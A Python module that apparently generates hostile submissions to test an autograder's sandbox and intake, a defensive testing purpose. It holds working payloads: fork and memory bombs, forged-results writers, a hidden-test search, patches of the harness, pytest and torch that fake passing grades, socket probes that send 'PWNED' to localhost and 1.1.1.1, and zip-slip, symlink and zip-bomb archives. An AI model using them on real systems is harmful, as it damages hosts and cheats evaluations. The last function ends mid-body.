"""A generator of hostile submissions for tests/test_hostile.py.

Nothing hostile is stored in the repository: :func:`build` writes every submission
into a scratch folder at test time.  Most are the reference solution (``solutions/``)
with one small textual patch (an infinite loop in one method, ``os._exit`` at import,
a fork bomb...), so the *other* tests of the submission must still score; a few are
standalone files or archives that attack the intake (zip slip, symlinks, bombs).

Each case is a builder function registered with ``@case`` (``CASE_NAMES`` lists them
in order); the :class:`Case` it returns says what grading must produce: ``full`` /
``zero`` list rubric numbers that must score all / none of their points, ``score`` is
the exact total where it is known and ``max_score`` an upper bound ("no unearned
points").  A case with ``known_hole`` documents an attack the grader cannot stop.

Why one file: it is data, the hostile payloads and their cases side by side, so each
expectation sits next to the code it is about.
"""

from __future__ import annotations

import os
import stat
import struct
import subprocess
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable

from autograder.engine import rubric
from autograder.sandbox.budget import SUBMISSION_SECONDS

ROOT = Path(__file__).resolve().parents[2]
SOLUTIONS = ROOT / "solutions"
HIDDEN = ROOT / "autograder" / "hidden"
FILES = ("loss_scaler.py", "amp_step.py", "answers.py")

# Rows and totals come from the rubric's declarations (a row added there is expected here at once).
SCALER = tuple(item.number for item in rubric.ITEMS if item.runs_student_scaler)
AMP = tuple(item.number for item in rubric.ITEMS if item.task == "amp_step")
AMP_TORCH_SCALER = AMP  # every amp_step test runs with torch's scaler (rubric.Item.runs_student_scaler)
QUICK = tuple(item.number for item in rubric.ITEMS if item.task == "quick_check")
MAX = rubric.max_points()


def points(rows: tuple[str, ...]) -> float:
    """What the rubric rows ``rows`` are worth together."""
    return sum(item.points for item in rubric.ITEMS if item.number in rows)


def reaching(stage: str) -> tuple[str, ...]:
    """The Task-1 rows whose scenarios call the student's scaler up to ``stage`` (rubric.STAGES) or further."""
    return tuple(item.number for item in rubric.ITEMS if item.runs_student_scaler
                 and rubric.STAGES.index(item.reaches) >= rubric.STAGES.index(stage))


@dataclass(frozen=True)
class Context:
    """What payloads need to know about the run that grades them."""

    out: Path  # the --out folder
    token: str  # unique per test run: names of files a payload tries to leave behind
    canary: Path  # a world-writable file a payload tries to overwrite
    port: int  # a TCP and UDP listener on 127.0.0.1
    unix_name: str  # an abstract unix socket listener


@dataclass
class Case:
    name: str
    path: Path
    full: tuple[str, ...] = ()
    zero: tuple[str, ...] = ()
    score: float | None = None
    max_score: float | None = None
    error: bool = False  # intake refused it: results.error_results, with the refusal among ``notes``
    nothing: bool = False  # no file to grade in it: "nothing submitted", no score and no row (never a zero)
    notes: tuple[str, ...] = ()  # substrings of the top-level output
    messages: dict[str, str] = field(default_factory=dict)  # rubric number -> substring of its output
    output_lacks: tuple[str, ...] = ()  # substrings that must not be in the top-level output
    #: Bound on results.json's execution_time: the grader's own wall budget (which it enforces by failing what is
    #: left at once) plus the time to write the results; never the machine's speed (a busy CI runner is slow).
    max_seconds: float = SUBMISSION_SECONDS + 15
    group: str = "sandbox"  # which grading run: "sandbox", "archives" (intake), "deep" (alone: it may crash a run)
    results: tuple[str, ...] = ()  # the submissions it yields, when not just one named like the case
    known_hole: str = ""  # why this attack cannot be stopped here (its test is an expected failure)


# --------------------------------------------------------------------------- text helpers


def solution(name: str) -> str:
    return (SOLUTIONS / name).read_text(encoding="utf-8")


def patch(text: str, anchor: str, replacement: str) -> str:
    """Replace the one occurrence of ``anchor`` (fails loudly if the solution changed)."""
    if text.count(anchor) != 1:
        raise AssertionError(f"hostile patch anchor {anchor!r} occurs {text.count(anchor)} times")
    return text.replace(anchor, replacement)


def at_import(text: str, code: str) -> str:
    """``code`` runs first when the module is imported (after any ``from __future__`` line)."""
    future = "from __future__ import annotations\n"
    if future in text:
        return patch(text, future, future + code + "\n")
    return code + "\n" + text


def in_method(text: str, first_line: str, code: str) -> str:
    """``code`` runs first in the body whose first statement is ``first_line`` (8-space indent)."""
    body = "".join("        " + line + "\n" for line in code.strip("\n").splitlines())
    return patch(text, first_line, body + first_line)


def write(folder: Path, files: dict[str, str | bytes]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        target = folder / name
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            target.write_bytes(content)
        else:
            target.write_text(content, encoding="utf-8")
    return folder


def solution_with(**changed: str) -> dict[str, str]:
    files = {name: solution(name) for name in FILES}
    files.update({f"{key}.py": value for key, value in changed.items()})
    return files


STUB_SCALER = '''
class ToyLossScaler:
    def __init__(self, *args, **kwargs):
        raise NotImplementedError("not done")
'''

# --------------------------------------------------------------------------- payloads

FORK_BOMB = '''
import os as _os
while True:
    try:
        if _os.fork() == 0:
            _os.setsid()  # out of the process group: only the uid kill catches it
    except OSError:
        pass
'''

MEMORY_BOMB = '''
import torch as _torch
try:
    _torch.ones(2**40)
except RuntimeError:
    pass
import mmap as _mmap
_chunks = [b"\\1" * 2**28]  # 256 MiB of touched memory...
try:
    while True:
        _chunks.append(_mmap.mmap(-1, 2**30))  # ...then address space until RLIMIT_AS says no
except OSError:
    pass
_chunks.append(bytearray(2**30))  # MemoryError
'''

SEGFAULT = '''
import ctypes
ctypes.string_at(0)
'''

PRINT_FLOOD = '''
import sys as _sys
_line = "A" * (2**20 - 1)
for _ in range(50):
    print(_line)
    print(_line, file=_sys.stderr)
'''

FAKE_RESULTS = '''
import json as _json, os as _os
_fake = {{"score": 90.0, "output": "{marker}", "tests": [{{"name": "{marker}", "score": 90.0, "max_score": 90.0}}]}}
_text = _json.dumps(_fake)
_targets = [
    "results.json", _os.path.expanduser("~/results.json"), "/autograder/results/results.json",
    "{out}/results.json", "{out}/{name}/results.json", "{out}/gradebook.csv", "{out}/{name}/staff.log",
    "/tmp/{token}-results.json", "/var/tmp/{token}-results.json", "/dev/shm/{token}-results.json",
    "{root}/results.json", "{root}/autograder/hidden/{token}.py", "/results.json", "{canary}",
]
_report = []
for _path in _targets:
    try:
        _os.makedirs(_os.path.dirname(_os.path.abspath(_path)), exist_ok=True)
        with open(_path, "w") as _f:
            _f.write(_text)
        _report.append("wrote " + _path)
    except OSError as _e:
        _report.append("refused " + _path + ": " + type(_e).__name__)
try:  # an existing world-writable file: no O_CREAT (fs.protected_regular would refuse that anyway)
    _fd = _os.open("{canary}", _os.O_WRONLY | _os.O_TRUNC)
    _os.write(_fd, _text.encode())
    _os.close(_fd)
    _report.append("overwrote the canary")
except OSError as _e:
    _report.append("canary refused: " + type(_e).__name__)
# every writable folder near the top of the tree gets a copy too
for _top, _dirs, _names in _os.walk("/"):
    if _top.count("/") >= 3 or _top.startswith(("/proc", "/sys")):
        _dirs[:] = []
    if _os.access(_top, _os.W_OK):
        try:
            with open(_os.path.join(_top, "{token}-sweep.json"), "w") as _f:
                _f.write(_text)
            _report.append("wrote " + _top)
        except OSError:
            pass
print("FAKE-RESULTS", "; ".join(_report))
'''

# Reads hidden tests wherever it can find them: known paths, a walk of likely folders,
# git objects (zlib), zip archives.  Bounded in time; ends with one summary line.
HIDDEN_SEARCH = r'''
import glob as _glob, os as _os, sys as _sys, time as _time, zlib as _zlib, zipfile as _zipfile
_T0 = _time.monotonic()
_NEEDLES = (b"def test_update_rule_properties", b"def test_quick_check_q1", b'KEY = {"Q1"',
            b"test_update_rule_non_power_of_two_factors")
_FOUND = {}
_OWN = _os.path.dirname(_os.path.realpath(globals().get("__file__", "/nonexistent/x")))
def _look(data, where):
    if _os.path.realpath(where.split(" ")[0].split(":")[0]).startswith(_OWN + "/"):
        return
    if any(n in data for n in _NEEDLES):
        _FOUND[where] = data
def _scan(path):
    try:
        if not _os.path.isfile(path) or _os.path.getsize(path) > 8 * 2**20:
            return
        with open(path, "rb") as f:
            data = f.read()
    except OSError:
        return
    _look(data, path)
    if "/.git/objects/" in path:
        try:
            _look(_zlib.decompress(data), path + " (git object)")
        except _zlib.error:
            pass
    if data[:2] == b"PK":
        try:
            with _zipfile.ZipFile(path) as z:
                for n in z.namelist():
                    if "hidden" in n:
                        _look(z.read(n), path + ":" + n)
        except Exception:
            pass
_roots = set()
for _entry in _sys.path + [_os.getcwd(), _os.path.expanduser("~"), "/autograder", "/autograder/source", "/work",
                           "/srv", "/home", "/opt", "/root", "/tmp", "/var/tmp", "/mnt", "/data", "/"]:
    _p = _os.path.abspath(_entry or ".")
    for _ in range(5):
        _roots.add(_p)
        _p = _os.path.dirname(_p)
for _r in sorted(_roots):
    for _pattern in ("autograder/hidden/*.py", "hidden/*.py", "source/autograder/hidden/*.py", "*.zip", "dist/*.zip"):
        for _f in _glob.glob(_os.path.join(_r, _pattern)):
            _scan(_f)
_checked = 0
for _r in ["/work", "/autograder", "/srv", "/home", "/opt", "/tmp", "/var/tmp", "/root", "/mnt"]:
    for _top, _dirs, _names in _os.walk(_r):
        _dirs[:] = [d for d in _dirs if d not in ("site-packages", "dist-packages", ".venv", "venv", "node_modules")
                    and _top.count("/") < 12 and _time.monotonic() - _T0 < 1.0]
        for _n in _names:
            if _time.monotonic() - _T0 > 1.0:
                break
            if _n.endswith((".py", ".pyc", ".zip", ".log", ".json", ".txt")) or "/.git/objects/" in _top + "/":
                _checked += 1
                _scan(_os.path.join(_top, _n))
for _where, _data in _FOUND.items():
    print("FOUND", _where)
    print(_data.decode("utf-8", "replace")[:20000])
print(f"HIDDEN-SEARCH found={len(_FOUND)} checked={_checked}")
_text = " ".join(_d.decode("utf-8", "replace") for _d in _FOUND.values())
'''

PATCH_HARNESS = '''
import importlib as _importlib, sys as _sys
_report = []
def _redirect(harness):
    original = harness.run_scaler_ops
    def run_scaler_ops(args, make_scaler, root=None):
        return original(args, harness.torch_scaler, root)
    harness.run_scaler_ops = run_scaler_ops
    original_scenario = harness.run_scenario
    def run_scenario(name, args, submission):
        if name == "scaler_ops":
            return original(args, harness.torch_scaler, None)
        return original_scenario(name, args, submission)
    harness.run_scenario = run_scenario
for _how in ("sys.modules", "import checks.runners.harness", "import autograder.sandbox.runner"):
    try:
        if _how == "sys.modules":
            _redirect(_sys.modules["checks.runners.harness"])
        elif _how == "import checks.runners.harness":
            _redirect(_importlib.import_module("checks.runners.harness"))
        else:
            _redirect(_importlib.import_module("autograder.sandbox.runner").harness)
        _report.append(_how + ": patched")
    except Exception as _e:
        _report.append(_how + ": " + type(_e).__name__)
print("PATCH-HARNESS", "; ".join(_report))
'''

FRAME_WALK = '''
import sys as _sys


class ToyLossScaler:
    """Hands back the harness's own reference scaler, found by walking up the call stack."""

    def __new__(cls, *args, **kwargs):
        frame = _sys._getframe(1)
        while frame is not None and "torch_scaler" not in frame.f_globals:
            frame = frame.f_back
        return frame.f_globals["torch_scaler"](*args, **kwargs)
'''

PROBE_EVASION = '''
import torch as _torch

_G = getattr(_torch.amp, "Grad" + "Scal" + "er")  # no forbidden name in the source
_INIT = _G.__init__  # captured at import: the stand-in is all there is to capture
_KERNELS = {n: getattr(_torch, n) for n in dir(_torch) if n.startswith("_amp_")}


def _pristine(method):
    def call(*args, **kwargs):
        patched = {n: getattr(_torch, n) for n in _KERNELS}
        for n, f in _KERNELS.items():
            setattr(_torch, n, f)
        try:
            return method(*args, **kwargs)
        finally:
            for n, f in patched.items():
                setattr(_torch, n, f)
    return call


class _Facade:
    pass


def ToyLossScaler(**kwargs):
    inner = _G.__new__(_G)
    _INIT(inner, "cpu", **kwargs)
    inner._lazy_init_scale_growth_tracker(_torch.device("cpu"))
    facade = _Facade()  # holds closures only: no GradScaler among its attributes
    for name in ("scale", "unscale_", "step", "update", "get_scale", "state_dict", "load_state_dict"):
        setattr(facade, name, _pristine(getattr(inner, name)))
    facade.get_growth_tracker = _pristine(inner._get_growth_tracker)
    return facade
'''

PATCH_TORCH = '''
import torch as _torch
_torch.isfinite = lambda t: _torch.ones_like(t, dtype=_torch.bool)
_torch.Tensor.isfinite = lambda self: _torch.ones_like(self, dtype=_torch.bool)
_torch.allclose = lambda *a, **k: True
_torch.equal = lambda *a, **k: True
_torch.testing.assert_close = lambda *a, **k: None
import math as _math
_math.isclose = lambda *a, **k: True
_math.isfinite = lambda x: True
'''

PATCH_TEST_TOOLS = '''
import builtins as _builtins, sys as _sys
_report = []
try:
    import pytest as _pytest, _pytest.outcomes as _outcomes
    _pytest.fail = _outcomes.fail = lambda *a, **k: None
    _pytest.main = lambda *a, **k: 0
    _report.append("pytest patched")
except Exception as _e:
    _report.append("pytest: " + type(_e).__name__)
try:
    import hypothesis as _hypothesis
    _hypothesis.given = lambda *a, **k: (lambda f: f)
    _hypothesis.settings.register_profile("grading", max_examples=1)
    _report.append("hypothesis patched")
except Exception as _e:
    _report.append("hypothesis: " + type(_e).__name__)
for _name in ("checks.judge.expect", "autograder.engine.judge", "autograder.engine.rubric", "autograder.engine.results"):
    try:
        _module = __import__(_name, fromlist=["x"])
        for _attr in ("fail", "score", "gradescope_results"):
            if hasattr(_module, _attr):
                setattr(_module, _attr, lambda *a, **k: None)
        if hasattr(_module, "ITEMS"):
            _module.ITEMS = ()
        _report.append(_name + " patched")
    except Exception as _e:
        _report.append(_name + ": " + type(_e).__name__)
_builtins.AssertionError = type("AssertionError", (Exception,), {})
print("PATCH-TOOLS", "; ".join(_report))
'''

NETWORK = '''
import socket as _socket
_report = []
def _try(label, action):
    try:
        action()
        _report.append(label + ": ok")
    except Exception as _e:
        _report.append(label + ": " + type(_e).__name__)
def _tcp(host, port):
    s = _socket.create_connection((host, port), timeout=1)
    s.sendall(b"PWNED {token}")
    s.close()
def _udp():
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    s.sendto(b"PWNED {token}", ("127.0.0.1", {port}))
def _unix():
    s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    s.connect("\\0{unix_name}")
    s.sendall(b"PWNED {token}")
_try("tcp-localhost", lambda: _tcp("127.0.0.1", {port}))
_try("udp-localhost", _udp)
_try("unix-abstract", _unix)
_try("tcp-internet", lambda: _tcp("1.1.1.1", 80))
_try("dns", lambda: _socket.getaddrinfo("example.com", 80))
print("NETWORK", "; ".join(_report))
'''

SPAWN = '''
import os as _os, subprocess as _subprocess, time as _time
_report = []
try:
    _done = _subprocess.run(["/bin/sh", "-c", "echo child-ran"], capture_output=True, text=True, timeout=5)
    _report.append("run: " + _done.stdout.strip())
except Exception as _e:
    _report.append("run: " + type(_e).__name__)
try:
    _subprocess.Popen(["sleep", "300"], start_new_session=True, stdout=_subprocess.DEVNULL,
                      stderr=_subprocess.DEVNULL, stdin=_subprocess.DEVNULL)
    _report.append("sleep daemon")
except Exception as _e:
    _report.append("popen: " + type(_e).__name__)
try:
    _pid = _os.fork()
    if _pid == 0:
        _os.setsid()
        if _os.fork() == 0:
            while True:
                _time.sleep(1)
        _os._exit(0)
    _os.waitpid(_pid, 0)
    _report.append("python daemon")
except Exception as _e:
    _report.append("fork: " + type(_e).__name__)
print("SPAWN", "; ".join(_report))
'''

PIPE_GARBAGE = '''
import os as _os
for _fd in range(3, 64):
    try:
        _os.write(_fd, b"\\xff\\xfe{garbage\\n[1, 2]\\n" + b'{"id": 1, "ok": []}\\n{"ready": true}\\n')
    except OSError:
        pass
'''


# --------------------------------------------------------------------------- archives


def _zip(path: Path, members: list[tuple[zipfile.ZipInfo | str, bytes]]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bundle:
        for info, data in members:
            bundle.writestr(info, data)
    return path


def _symlink_member(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.create_system = 3  # unix
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info, target.encode()


def _zip_bomb(path: Path, member: str, size: int, lie: bool) -> Path:
    """One member of ``size`` bytes of '#' (compresses ~1000:1); ``lie``: its headers claim 100 bytes."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bundle:
        with bundle.open(member, "w", force_zip64=True) as stream:
            chunk = b"#" * 2**22
            for _ in range(size // len(chunk)):
                stream.write(chunk)
    if lie:  # the central directory's "uncompressed size" field
        data = bytearray(path.read_bytes())
        struct.pack_into("<I", data, data.rfind(b"PK\x01\x02") + 24, 100)
        path.write_bytes(bytes(data))
    return path


def _corrupt_member_zip(path: Path, member: str = "answers.py", others: tuple[str, ...] = ()) -> Path:
    """A zip whose directory is intact but whose first member's deflated data is garbage."""
    text = solution("answers.py").encode() * 20
    _zip(path, [(member, text)] + [(other, text) for other in others])
    data = bytearray(path.read_bytes())
    start = 30 + len(member)
    for offset in range(start + 10, start + 200):
        data[offset] ^= 0x5A
    path.write_bytes(bytes(data))
    return path


def corrupt_batch_zip(dest: Path) -> Path:
    """A zip of two submissions (a batch, which the grader unpacks itself) whose first member is corrupt."""
    dest.mkdir(parents=True, exist_ok=True)
    return _corrupt_member_zip(dest / "corrupt_batch.zip", "alice/answers.py", ("bob/answers.py",))


# --------------------------------------------------------------------------- the cases

Builder = Callable[["Kit"], Case]
_BUILDERS: dict[str, Builder] = {}


def case(builder: Builder) -> Builder:
    """Register a case; its name is the function's name (and the submission's folder or zip stem)."""
    _BUILDERS[builder.__name__] = builder
    return builder


@dataclass
class Kit:
    """What a case builder gets: where to write, the run's context, the solution's sources."""

    dest: Path
    ctx: Context
    name: str = ""

    def __post_init__(self) -> None:
        self.scaler, self.amp, self.answers = (solution(name) for name in FILES)
        self.wrong_q1 = patch(self.answers, 'Q1 = "B"  # SOLUTION', 'Q1 = "A"')

    def folder(self, files: dict[str, str | bytes], **expect: Any) -> Case:
        return Case(self.name, write(self.dest / self.name, files), **expect)

    def solution(self, **changed: str) -> dict[str, str]:
        return solution_with(**changed)

    def in_update(self, code: str) -> str:
        return in_method(self.scaler, "        if new_scale is not None:\n", code)

    def in_step(self, code: str) -> str:
        return in_method(self.scaler, '        if "closure" in kwargs:\n', code)

    def in_amp_step(self, code: str) -> str:
        first = "    optimizer.zero_grad(set_to_none=True)\n"
        return patch(self.amp, first, "".join("    " + line + "\n" for line in code.strip("\n").splitlines()) + first)


LOOP = "while True:\n    pass"
# A fault in one scaler method: the other tests still run, so only bounds are asserted for Task 1.


# -- faults in the student process: the other tests must still score

#: The most a scaler that crashes in step() can earn: the Task-1 rows whose scenarios stop before step(), all of
#: Task 2 (its tests run with torch's scaler) and the Quick Check.
TORCH_SCALER_SHARE = MAX - points(reaching("step"))
#: A scaler that never returns from update(): the first row that calls update() uses up the grading budget, so it and
#: every Task-1 row after it (in the rubric's order, the order they run) score nothing.
STUCK_IN_UPDATE = SCALER[SCALER.index(reaching("update")[0]):]
#: A row that needs a loss_scaler.py that did not import: one line; the cause is told once at the top.
NOT_IMPORTED_SCALER = "Not run: loss_scaler.py could not be imported (see the top of this feedback)."

@case
def loop_at_import(kit: Kit) -> Case:
    return kit.folder(kit.solution(loss_scaler=at_import(kit.scaler, LOOP)), full=AMP_TORCH_SCALER + QUICK,
                      zero=SCALER, messages={"1.2": NOT_IMPORTED_SCALER},
                      notes=("importing loss_scaler.py did not finish within",))


@case
def loop_in_update(kit: Kit) -> Case:
    return kit.folder(kit.solution(loss_scaler=kit.in_update(LOOP)), full=AMP_TORCH_SCALER + QUICK,
                      zero=STUCK_IN_UPDATE, max_score=MAX - points(STUCK_IN_UPDATE),
                      messages={"1.5": "did not finish within"})


@case
def os_exit_at_import(kit: Kit) -> Case:
    return kit.folder(kit.solution(loss_scaler=at_import(kit.scaler, "import os\nos._exit(0)")),
                      full=AMP_TORCH_SCALER + QUICK, zero=SCALER, messages={"1.2": NOT_IMPORTED_SCALER},
                      notes=("importing loss_scaler.py ended the process",))


@case
def sys_exit_at_import(kit: Kit) -> Case:
    return kit.folder(kit.solution(amp_step=at_import(kit.amp, "import sys\nsys.exit(0)")), full=SCALER + QUICK,
                      zero=AMP, messages={"2.1": "Not run: amp_step.py could not be imported (see the top of this "
                                                 "feedback)."}, notes=("SystemExit",))


@case
def os_exit_in_step(kit: Kit) -> Case:
    return kit.folder(kit.solution(loss_scaler=kit.in_step("import os\nos._exit(0)")), full=AMP_TORCH_SCALER + QUICK,
                      zero=("1.4",), max_score=TORCH_SCALER_SHARE, messages={"1.4": "ended the process"})


@case
def sys_exit_in_amp_step(kit: Kit) -> Case:
    return kit.folder(kit.solution(amp_step=kit.in_amp_step("import sys\nsys.exit(3)")), full=SCALER + QUICK,
                      zero=AMP, messages={"2.1": "SystemExit"})


@case
def segfault_in_step(kit: Kit) -> Case:
    return kit.folder(kit.solution(loss_scaler=kit.in_step(SEGFAULT)), full=AMP_TORCH_SCALER + QUICK, zero=("1.4",),
                      max_score=TORCH_SCALER_SHARE, messages={"1.4": "ended the process"})


@case
def memory_bomb_in_amp_step(kit: Kit) -> Case:
    return kit.folder(kit.solution(amp_step=kit.in_amp_step(MEMORY_BOMB)), full=SCALER + QUICK, zero=AMP,
                      messages={"2.1": "MemoryError"})


@case
def fork_bomb_at_import(kit: Kit) -> Case:
    return kit.folder(kit.solution(loss_scaler=at_import(kit.scaler, FORK_BOMB)), full=AMP + QUICK, zero=SCALER,
                      score=points(AMP + QUICK), messages={"1.1": NOT_IMPORTED_SCALER}, notes=("did not finish within",))


@case
def print_100mb(kit: Kit) -> Case:
    return kit.folder(kit.solution(loss_scaler=at_import(kit.scaler, PRINT_FLOOD)), score=MAX,
                      notes=("more bytes of output not shown",))


@case
def pipe_garbage(kit: Kit) -> Case:
    return kit.folder({"loss_scaler.py": at_import(kit.scaler, PIPE_GARBAGE), "answers.py": kit.answers},
                      max_score=points(QUICK), zero=SCALER + AMP)


# -- escapes: writing outside, reading the hidden tests, patching the grader, the network, daemons

@case
def fake_results(kit: Kit) -> Case:
    ctx = kit.ctx
    code = FAKE_RESULTS.format(marker=f"FAKE-{ctx.token}", out=ctx.out, name=kit.name, token=ctx.token, root=ROOT,
                               canary=ctx.canary)
    return kit.folder({"loss_scaler.py": at_import(kit.scaler, code), "answers.py": kit.answers}, max_score=MAX - points(AMP),
                      full=QUICK, zero=AMP)


@case
def hidden_search(kit: Kit) -> Case:
    return kit.folder({"loss_scaler.py": at_import(kit.scaler, HIDDEN_SEARCH),
                       "answers.py": 'Q1 = "B"\n'}, score=points(("3.1",) + SCALER), full=("3.1",) + SCALER, zero=("3.2", "3.3", "3.4", "3.5"),
                      notes=("HIDDEN-SEARCH found=0",))


@case
def patch_harness(kit: Kit) -> Case:
    files = {"loss_scaler.py": at_import(STUB_SCALER, PATCH_HARNESS), "amp_step.py": kit.amp, "answers.py": kit.answers}
    return kit.folder(files, zero=SCALER, full=AMP_TORCH_SCALER + QUICK, notes=("PATCH-HARNESS",),
                      output_lacks=(": patched",))


@case
def frame_walk_delegation(kit: Kit) -> Case:
    """Hands back the harness's own torch scaler (found on the stack): torch's scaler is not there to hand back."""
    return kit.folder({"loss_scaler.py": FRAME_WALK, "amp_step.py": kit.amp, "answers.py": kit.answers},
                      zero=SCALER, full=QUICK)


@case
def probe_evading_delegation(kit: Kit) -> Case:
    """Captures torch's GradScaler and kernels at import and hides them in closures.

    torch's scaler is taken out of the process before any student code is imported, so what it
    captures are the stand-in and the refusing kernels.
    """
    return kit.folder({"loss_scaler.py": PROBE_EVASION, "amp_step.py": kit.amp, "answers.py": kit.answers},
                      zero=SCALER, full=QUICK)


@case
def patch_torch(kit: Kit) -> Case:
    return kit.folder(kit.solution(loss_scaler=at_import(kit.scaler, PATCH_TORCH)), max_score=MAX - points(("1.4",)), zero=("1.4",),
                      full=QUICK)


@case
def patch_pytest_hypothesis(kit: Kit) -> Case:
    return kit.folder(kit.solution(loss_scaler=at_import(kit.scaler, PATCH_TEST_TOOLS), answers=kit.wrong_q1),
                      score=MAX - points(("3.1",)), zero=("3.1",),
                      full=SCALER + AMP, notes=("PATCH-TOOLS",))


@case
def network(kit: Kit) -> Case:
    code = NETWORK.format(token=kit.ctx.token, port=kit.ctx.port, unix_name=kit.ctx.unix_name)
    return kit.folder({"loss_scaler.py": at_import(kit.scaler, code), "answers.py": kit.answers}, score=points(QUICK + SCALER),
                      full=QUICK + SCALER, notes=("NETWORK",),
                      output_lacks=("localhost: ok", "abstract: ok", "internet: ok", "dns: ok"))


@case
def subprocess_daemons(kit: Kit) -> Case:
    """Daemons (setsid, double fork) at every import; the constructor ends the process, so the last one dies alone."""
    scaler = at_import(STUB_SCALER.replace('raise NotImplementedError("not done")', "import os; os._exit(0)"), SPAWN)
    return kit.folder({"loss_scaler.py": scaler, "answers.py": kit.answers}, score=points(QUICK), full=QUICK, zero=SCALER,
                      notes=("SPAWN",))


# -- archives and odd folders: the intake

@case
def zip_slip(kit: Kit) -> Case:
    token = kit.ctx.token
    path = _zip(kit.dest / "zip_slip.zip", [
        (f"../../{token}-slip.txt", b"slipped"), (f"/tmp/{token}-abs.txt", b"absolute"),
        ("../answers.py", kit.answers.encode()), (f"../../../../../../tmp/{token}-deep/loss_scaler.py", b"x = 1\n")])
    return Case(kit.name, path, score=points(QUICK), full=QUICK, notes=("unsafe path",), group="archives")


@case
def zip_slip_batch(kit: Kit) -> Case:
    """A zip of two submissions: the batch unpacks it (as root), so its ``..``/absolute/link members matter."""
    token = kit.ctx.token
    path = _zip(kit.dest / "zip_slip_batch.zip", [
        ("zip_slip_batch_a/answers.py", kit.answers.encode()), ("zip_slip_batch_b/hw/answers.py", kit.answers.encode()),
        (f"../../{token}-slip.txt", b"slipped"), (f"zip_slip_batch_a/../../../{token}-slip2.txt", b"slipped"),
        (f"/tmp/{token}-abs.txt", b"absolute"), _symlink_member("zip_slip_batch_a/loss_scaler.py", "/etc/passwd"),
        _symlink_member("zip_slip_batch_b/amp_step.py", str(SOLUTIONS / "amp_step.py"))])
    return Case(kit.name, path, score=points(QUICK), full=QUICK, group="archives",
                results=("zip_slip_batch_a", "zip_slip_batch_b"))


@case
def symlink_folder(kit: Kit) -> Case:
    folder = write(kit.dest / kit.name, {})
    (folder / "answers.py").symlink_to(SOLUTIONS / "answers.py")
    (folder / "loss_scaler.py").symlink_to("../../../../../../../etc/passwd")
    (folder / "amp_step.py").symlink_to("/dev/zero")
    (folder / "everything").symlink_to("/", target_is_directory=True)
    return Case(kit.name, folder, score=0.0, notes=("symbolic link",), group="archives")


@case
def symlink_zip(kit: Kit) -> Case:
    path = _zip(kit.dest / "symlink_zip.zip", [
        _symlink_member("answers.py", str(SOLUTIONS / "answers.py")), _symlink_member("sub/amp_step.py", "/etc/passwd"),
        _symlink_member("loss_scaler.py", "../../solutions/loss_scaler.py")])
    return Case(kit.name, path, score=0.0, notes=("symbolic link",), group="archives")


@case
def zip_bomb(kit: Kit) -> Case:
    path = _zip_bomb(kit.dest / "zip_bomb.zip", "answers.py", 256 * 2**20, lie=False)
    return Case(kit.name, path, score=0.0, notes=("larger than",), group="archives")


@case
def zip_bomb_lying_header(kit: Kit) -> Case:
    path = _zip_bomb(kit.dest / "zip_bomb_lying_header.zip", "answers.py", 256 * 2**20, lie=True)
    return Case(kit.name, path, score=0.0, group="archives")


@case
def many_members(kit: Kit) -> Case:
    path = kit.dest / "many_members.zip"
    with zipfile.ZipFile(path, "w") as bundle:
        for index in range(12_000):
            bundle.writestr(f"junk/{index}.txt", b"")
    return Case(kit.name, path, nothing=True, notes=("Nothing submitted",), group="archives")  # no contract file


@case
def huge_file(kit: Kit) -> Case:
    folder = write(kit.dest / kit.name, {"loss_scaler.py": "# big\n" + "#" * (3 * 2**20)})
    with open(folder / "answers.py", "wb") as sparse:
        sparse.truncate(4 * 2**30)  # 4 GiB, sparse
    os.mkfifo(folder / "amp_step.py")  # reading it would block forever
    return Case(kit.name, folder, score=0.0, notes=("larger than",), group="archives")


@case
def non_utf8(kit: Kit) -> Case:
    files = {"answers.py": ("# r\xe9ponse en latin-1\n" + kit.answers).encode("latin-1"),
             "loss_scaler.py": b"x = 1\x00\x00\n" + kit.scaler.encode()}
    return kit.folder(files, score=0.0, messages={"3.1": "UTF-8"}, group="archives")


@case
def corrupt_zip(kit: Kit) -> Case:
    path = kit.dest / "corrupt_zip.zip"
    path.write_bytes(b"PK\x03\x04" + os.urandom(2000))
    return Case(kit.name, path, error=True, notes=("corrupt_zip.zip is not a readable zip archive",), group="archives")


@case
def truncated_zip(kit: Kit) -> Case:
    path = _zip(kit.dest / "truncated_zip.zip", [("answers.py", kit.answers.encode()),
                                                 ("amp_step.py", kit.amp.encode())])
    path.write_bytes(path.read_bytes()[:700])
    return Case(kit.name, path, error=True, notes=("truncated_zip.zip is not a readable zip archive",), group="archives")


@case
def corrupt_member_zip(kit: Kit) -> Case:
    return Case(kit.name, _corrupt_member_zip(kit.dest / "corrupt_member_zip.zip"), error=True,
                notes=("corrupt_member_zip.zip is not a readable zip archive",), group="archives")


@case
def empty_folder(kit: Kit) -> Case:
    (kit.dest / kit.name).mkdir()
    return Case(kit.name, kit.dest / kit.name, nothing=True, notes=("Nothing submitted",), group="archives")


@case
def empty_zip(kit: Kit) -> Case:
    return Case(kit.name, _zip(kit.dest / "empty_zip.zip", []), nothing=True, notes=("Nothing submitted",),
                group="archives")


@case
def nested_folders(kit: Kit) -> Case:
    files = {"hw/final/answers.py": kit.answers, "hw/final/old/drafts/answers.py": kit.wrong_q1,
             "__MACOSX/hw/final/._answers.py": b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X",
             ".git/answers.py": kit.wrong_q1}
    return kit.folder(files, score=points(QUICK), full=QUICK, notes=("inside a folder",), group="archives")


@case
def deep_folders(kit: Kit) -> Case:
    """1500 nested folders: deeper than Python's recursion limit (os.walk and os.makedirs recurse)."""
    folder = write(kit.dest / kit.name, {"answers.py": kit.answers})
    fd = os.open(folder, os.O_DIRECTORY)
    for _ in range(1500):
        os.mkdir("d", dir_fd=fd)
        fd, parent = os.open("d", os.O_DIRECTORY, dir_fd=fd), fd
        os.close(parent)
